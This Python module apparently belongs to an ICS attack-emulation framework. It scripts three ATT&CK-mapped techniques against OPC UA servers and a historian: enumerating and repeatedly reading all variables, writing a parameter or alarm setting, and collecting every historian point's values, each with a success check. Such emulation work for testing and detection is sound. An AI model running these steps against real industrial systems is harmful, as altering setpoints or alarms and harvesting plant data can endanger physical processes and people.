# Techniques against OPC UA servers and historians: all nodes walked through, variables read again and
# again, a setting written, and what a historian collected asked for point by point.
from __future__ import annotations

from urllib.parse import quote

from policies import AttackStep, Fidelity, Title

from .historian import HISTORIAN
from .http import parse_response, request
from .opcua import SERVICES, service_of
from .opcua_client import OpcuaClient
from .technique import Attacker, Seen, Technique, number

__all__ = ["OPCUA_TECHNIQUES"]

_EVERYWHERE: frozenset[Fidelity] = frozenset({"memory", "loopback", "netns"})
_PORT = 4840


async def _browse(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Every variable found by walking through the server, and read so many times."""
    client = await OpcuaClient.open(attacker.wire, attacker.address, target)
    nodes = await client.variables()
    attacker.loot["nodes"] = [str(at[1]).encode() for at in nodes]
    for _ in range(int(number(step, "reads", 1))):
        await client.read(nodes)
        await attacker.clock.sleep(number(step, "pause_s", 2))
    await client.close()


async def _write(attacker: Attacker, step: AttackStep, target: str) -> None:
    client = await OpcuaClient.open(attacker.wire, attacker.address, target)
    await client.write((2, str(step.parameters.get("at", ""))), number(step, "value", 0))
    await client.close()


async def _history(attacker: Attacker, _step: AttackStep, target: str) -> None:
    """The points a historian has, and the values of each."""
    link = await attacker.wire.open(attacker.address, target, HISTORIAN)
    reply = parse_response(await link.ask(request("GET", "/points", target))).json()
    points = reply.get("points", []) if isinstance(reply, dict) else []
    for point in points:
        asked = request("GET", f"/history?point={quote(str(point))}", target)
        attacker.loot.setdefault("history", []).append(parse_response(await link.ask(asked)).body)
        await attacker.clock.sleep(attacker.random.uniform(0.2, 0.6))
    await link.close()


def _has_read(step: AttackStep, seen: Seen) -> bool:
    replies = [
        each
        for each in seen.frames
        if each.kind == "reply" and each.port == _PORT
        and service_of(each.payload) == SERVICES["read"] + 3
    ]  # fmt: skip
    return len(replies) >= number(step, "reads", 1)


def _is_written(step: AttackStep, seen: Seen) -> bool:
    """A setting of the server's is another; with `point`, that of the plant too."""
    before, after = seen.settings
    changed = any(
        key.startswith(f"{step.to} ") and value != before[key] for key, value in after.items()
    )
    point = str(step.parameters.get("point", ""))
    first, last = seen.points
    return changed and (not point or first.get(point) != last.get(point))


def _has_history(step: AttackStep, seen: Seen) -> bool:
    return seen.history >= number(step, "values", 100)


OPCUA_TECHNIQUES = {
    "opcua-browse": Technique(
        {
            "T0861": Title(zh="点位与标签识别", en="Point & Tag Identification"),
            "T0801": Title(zh="监视过程状态", en="Monitor Process State"),
            "T0888": Title(zh="远程系统信息发现", en="Remote System Information Discovery"),
        },
        _EVERYWHERE, _browse, _has_read,
    ),
    "opcua-write": Technique(
        {
            "T0836": Title(zh="修改参数", en="Modify Parameter"),
            "T0838": Title(zh="修改告警设置", en="Modify Alarm Settings"),
            "T1692.001": Title(zh="未授权报文：命令报文", en="Unauthorized Message: Command Message"),
        },
        _EVERYWHERE, _write, _is_written,
    ),
    "query-history": Technique(
        {
            "T0802": Title(zh="自动化收集", en="Automated Collection"),
            "T0811": Title(zh="信息库数据", en="Data from Information Repositories"),
        },
        _EVERYWHERE, _history, _has_history,
    ),
}  # fmt: skip
